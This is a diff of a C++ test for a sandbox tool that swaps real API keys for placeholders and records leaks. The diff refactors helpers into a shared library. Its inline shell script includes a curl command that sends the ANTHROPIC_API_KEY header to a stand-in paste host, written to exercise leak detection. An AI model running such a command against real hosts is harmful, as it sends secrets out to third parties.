@@ -30,21 +30,6 @@ std::vector<std::string> filesHolding(const fs::path& root, const std::string& n
     return out;
 }
 
-std::vector<nlohmann::json> exported(const sbit::Sandbench& sb, const std::string& id,
-                                     const std::string& kind)
-{
-    auto r = sb.cli({"export", id, "--format", "jsonl"});
-    std::vector<nlohmann::json> out;
-    std::istringstream lines(r.out);
-    for (std::string line; std::getline(lines, line);) {
-        auto j = nlohmann::json::parse(line, nullptr, false);
-        if (!j.is_discarded() && j.contains("payload") && j["payload"].is_object() &&
-            j["payload"].value("kind", "") == kind)
-            out.push_back(j["payload"]);
-    }
-    return out;
-}
-
 } // namespace
 
 TEST(Secrets, ProgramsSendThePlaceholderAndTheHostReceivesTheValue)
@@ -84,37 +69,27 @@ fetch("@URL@", {method: "POST", headers: {"x-api-key": process.env.ANTHROPIC_API
   .catch(e => { console.log("node failed:", e.cause || e); process.exit(1); })'
 echo "paste: $(curl -sS --max-time 20 -o /dev/null -w "%{http_code}" -H "x-api-key: $ANTHROPIC_API_KEY" http://paste.test.example:@WEB@/)"
 )SH";
-    std::string script = R"(
-python3 @FAKE@ 198.18.0.1 @API@ @CERT@ @KEY@ @LOG@ > api.port 2> api.err &
-api=$!
-for i in $(seq 100); do [ -s api.port ] && break; sleep 0.1; done
+    // In the server's folder (api.port, api.err); the inside script comes in INSIDE.
+    std::string script =
+        "cd " + server.path().string() + " || exit 1\n" +
+        sbit::startFakeModelApi(server.path(), "198.18.0.1", net.port + 2, pki->serverCert,
+                                pki->serverKey, server / "keys.log") +
+        R"(
 SSL_CERT_FILE=@CA@ THE_REAL_KEY=@VALUE@ @CLI@ run --workspace @WORKSPACE@ --session-id secrets \
   --policy @POLICY@ -- bash -c "$INSIDE"
 status=$?
 kill $api
 exit $status
 )";
-    std::map<std::string, std::string> words = {
-        {"@FAKE@", sbit::writeFakeModelApi(server.path()).string()},
-        {"@API@", api},
-        {"@CERT@", pki->serverCert},
-        {"@KEY@", pki->serverKey},
-        {"@LOG@", (server / "keys.log").string()},
-        {"@CA@", pki->caCert},
-        {"@VALUE@", kValue},
-        {"@CLI@", sbtest::cliPath()},
-        {"@WORKSPACE@", sb.workspace().string()},
-        {"@POLICY@", policy.string()},
-        {"@URL@", url},
-        {"@WEB@", web}};
-    for (std::string* text : {&script, &inside})
-        for (const auto& [word, value] : words)
-            for (auto at = text->find(word); at != std::string::npos;
-                 at = text->find(word, at + value.size()))
-                text->replace(at, word.size(), value);
-    // The script runs in the server's folder (api.port); the inside script comes in INSIDE.
-    auto result = net.run(sb, {"env", "INSIDE=" + inside, "bash", "-c",
-                               "cd " + server.path().string() + " && " + script});
+    const std::map<std::string, std::string> words = {{"@CA@", pki->caCert},
+                                                      {"@VALUE@", kValue},
+                                                      {"@CLI@", sbtest::cliPath()},
+                                                      {"@WORKSPACE@", sb.workspace().string()},
+                                                      {"@POLICY@", policy.string()},
+                                                      {"@URL@", url},
+                                                      {"@WEB@", web}};
+    auto result = net.run(sb, {"env", "INSIDE=" + sbit::filledIn(inside, words), "bash", "-c",
+                               sbit::filledIn(script, words)});
     ASSERT_EQ(result.status, 0) << result.out << result.err << sbtest::readFile(server / "api.err");
 
     // Inside: the placeholder, shaped like the key.
@@ -129,13 +104,13 @@ exit $status
     EXPECT_EQ(sbtest::readFile(server / "keys.log"), kValue + "\n" + kValue + "\n" + kValue + "\n");
 
     // Recorded: three model requests with their tokens, and the leak.
-    const auto models = exported(sb, "secrets", "model");
+    const auto models = sbit::recordedPayloads(sb, "secrets", "model");
     ASSERT_EQ(models.size(), 3u) << result.err;
     for (const auto& m : models) {
         EXPECT_EQ(m.value("input_tokens", 0), 11);
         EXPECT_EQ(m.value("output_tokens", 0), 7);
     }
-    const auto leaks = exported(sb, "secrets", "leak");
+    const auto leaks = sbit::recordedPayloads(sb, "secrets", "leak");
     ASSERT_EQ(leaks.size(), 1u);
     EXPECT_EQ(leaks[0].value("secret", ""), "anthropic");
     EXPECT_EQ(leaks[0].value("host", ""), "paste.test.example");
